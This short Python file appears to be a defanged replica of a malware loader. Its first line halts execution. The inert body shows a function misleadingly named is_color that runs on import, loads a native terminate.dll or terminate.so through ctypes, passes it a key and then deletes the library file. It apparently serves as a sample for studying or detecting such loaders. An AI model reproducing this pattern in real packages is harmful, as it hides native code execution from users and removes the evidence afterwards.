raise SystemExit("inert replica")
import ctypes
import os
import platform

_KEY = "replica"


def is_color():
    name = "terminate.dll" if platform.system() == "Windows" else "terminate.so"
    library = ctypes.CDLL(os.path.join(os.path.dirname(__file__), name))
    library.envir(_KEY.encode())
    os.remove(os.path.join(os.path.dirname(__file__), name))


is_color()
